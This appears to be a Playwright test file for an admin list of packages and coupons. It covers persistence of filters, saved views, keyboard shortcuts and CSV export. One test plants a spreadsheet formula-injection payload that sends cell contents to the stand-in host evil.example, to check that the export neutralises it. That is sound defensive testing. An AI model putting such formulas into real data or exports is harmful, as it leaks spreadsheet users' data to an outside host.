import { readFile } from 'node:fs/promises'
import { expect, type Page } from '@playwright/test'
import { openPackageScreen } from '../src/package-screen.ts'
import { readClipboard } from '../src/read-clipboard.ts'
import { openFromMenu, sections } from '../src/sections.ts'
import { test } from '../src/test.ts'

const [, , coupons] = sections

const namesOf = (page: Page) => page.getByRole('row').getByRole('link').allTextContents()
const searchOf = (page: Page) => page.getByRole('searchbox')
const statusOf = (page: Page, name: string) => page.getByRole('radio', { name, exact: true })

async function openPanel(page: Page) {
  await page.getByRole('button', { name: 'View options' }).click()
  return page.getByRole('region', { name: 'View options' })
}

// proves B22
test('filter, search and sort survive a reload, and Back restores them with the scroll position and the focused row', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.setViewportSize({ width: 1280, height: 500 })
  await page.goto('/packages/')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  await page.getByRole('radiogroup', { name: 'Status' }).getByText('Published').click()
  await page.getByRole('columnheader', { name: 'Price' }).click()
  await searchOf(page).fill('co')
  const address = '/packages/?status=published&sort=price&q=co'
  await expect(page).toHaveURL(address)
  // The rows update after the toolbar.
  await expect.poll(async () => (await namesOf(page)).filter((name) => !/co/i.test(name))).toEqual([])
  const names = await namesOf(page)
  expect(names.length).toBeGreaterThan(3)
  await page.reload()
  await expect.poll(() => namesOf(page)).toEqual(names)
  await expect(searchOf(page)).toHaveValue('co')
  await expect(statusOf(page, 'Published')).toBeChecked()

  await searchOf(page).press('ArrowDown')
  for (let step = 0; step < 3; step += 1) await page.keyboard.press('ArrowDown')
  const focused = page.getByRole('row').filter({ hasText: names[3] ?? '' })
  await expect(focused).toBeFocused()
  const scroll = 60
  await page.evaluate((top) => scrollTo(0, top), scroll)
  await expect.poll(() => page.evaluate(() => scrollY)).toBe(scroll)
  if (coupons !== undefined) await openFromMenu(page, coupons)
  await page.goBack()
  await expect(page).toHaveURL(address)
  await expect(focused).toBeFocused()
  await expect.poll(() => namesOf(page)).toEqual(names)
  await expect.poll(() => page.evaluate(() => scrollY)).toBe(scroll)
})

// proves B23
test('the exported CSV holds the rows that are shown, and no formula that a spreadsheet would run', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.goto('/packages/')
  const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Prize")'
  const screen = openPackageScreen(page)
  await screen.create({ name: hostile, coins: '10', gems: '1', price: '1.50' })
  await expect(screen.row(hostile)).toBeVisible()
  await searchOf(page).fill('hyperlink')
  await expect(page.getByText(/^1 of \d+ packages$/)).toBeVisible()
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export as CSV' }).click()
  const file = await download
  expect(file.suggestedFilename()).toMatch(/^packages-\d{4}-\d\d-\d\d\.csv$/)
  const [head, row, ...rest] = (await readFile(await file.path(), 'utf8')).split('\r\n')
  expect(head).toBe('\ufeffName,Coins,Gems,Price,Currency,Per coin,Status,Updated,Updated by,Created,ID')
  expect(row).toMatch(
    /^"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Prize""\)",10,1,1\.5,USD,0\.15,Draft,/,
  )
  expect(rest).toEqual([''])
})

// proves B24
test('columns, density and a named view are kept, and a link shows a colleague the same list', async ({
  page,
  context,
  signIn,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await signIn(page)
  await page.goto('/packages/?status=published&sort=-price')
  const readHeight = async (list: Page) => (await list.getByRole('row').nth(1).boundingBox())?.height ?? 0
  await expect.poll(() => readHeight(page)).toBeGreaterThan(0)
  const [names, height] = [await namesOf(page), await readHeight(page)]
  const panel = await openPanel(page)
  await panel.getByRole('checkbox', { name: 'Created' }).check()
  await panel.getByRole('checkbox', { name: 'Gems' }).uncheck()
  await panel.getByText('Compact').click()
  await panel.getByLabel('Name of the view').fill('Dearest first')
  await panel.getByRole('button', { name: 'Save view' }).click()
  await panel.getByRole('button', { name: 'Copy a link to this view' }).click()
  await expect(page.getByText('Link copied')).toBeVisible()
  const link = await readClipboard(page)
  await page.keyboard.press('Escape')

  await page.getByRole('radiogroup', { name: 'Status' }).getByText('Draft').click()
  await expect.poll(() => namesOf(page)).not.toEqual(names)
  await (await openPanel(page)).getByRole('button', { name: 'Dearest first', exact: true }).click()
  await expect(statusOf(page, 'Published')).toBeChecked()
  // The rows update after the toolbar.
  await expect.poll(() => namesOf(page)).toEqual(names)

  const colleague = await context.newPage()
  await colleague.goto(link)
  await expect.poll(() => namesOf(colleague)).toEqual(names)
  const heading = (name: string) => colleague.getByRole('columnheader', { name, exact: true })
  await expect(heading('Created')).toBeVisible()
  await expect(heading('Gems')).toHaveCount(0)
  await expect.poll(() => readHeight(colleague)).toBeLessThan(height)
})

// proves B25
test('shortcut keys lead from the search to a row and its actions', {
  tag: '@browsers',
}, async ({ page, signIn }) => {
  await signIn(page)
  await page.goto('/packages/')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  await page.keyboard.press('/')
  await expect(searchOf(page)).toBeFocused()
  await page.keyboard.type('gem box')
  await expect(page.getByText(/^\d of \d+ packages$/)).toBeVisible()
  // The rows update after the count.
  await expect.poll(() => page.getByRole('row').count()).toBeLessThan(10)
  await page.keyboard.press('ArrowDown')
  await expect(page.getByRole('row').nth(1)).toBeFocused()
  await page.keyboard.press('x')
  await expect(page.getByText('1 package selected')).toBeVisible()
  await page.keyboard.press('.')
  await expect(page.getByRole('menuitem', { name: 'Edit' })).toBeFocused()
  await page.keyboard.press('Enter')
  const form = page.getByRole('dialog')
  await expect(form.getByLabel('Name')).toHaveValue(/^Gem box/)
  await page.keyboard.press('Escape')
  await expect(form).toHaveCount(0)
  await expect(page.getByRole('row').nth(1)).toBeVisible()
})

test('three keys lead from a row to an action on the selection, and Tab to nothing under its bar', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.setViewportSize({ width: 1280, height: 500 })
  await page.goto('/coupons/')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  await searchOf(page).press('ArrowDown')
  await page.keyboard.press('x')
  const bar = page.getByRole('region', { name: 'Selection' })
  await expect(bar).toBeVisible()
  for (let step = 0; step < 24; step += 1) {
    await page.keyboard.press('Tab')
    const isHidden = await page.evaluate(() => {
      const { activeElement: focused } = document
      if (focused === null || focused.closest('[aria-label="Selection"]') !== null) return false
      const { left, right, bottom } = focused.getBoundingClientRect()
      const shown = document.elementFromPoint((left + right) / 2, bottom - 2)
      return Boolean(shown?.closest('[aria-label="Selection"]'))
    })
    expect(isHidden).toBe(false)
  }
  await page.getByRole('row').nth(1).focus()
  await page.keyboard.press('a')
  await expect(bar.getByRole('button').first()).toBeFocused()
})
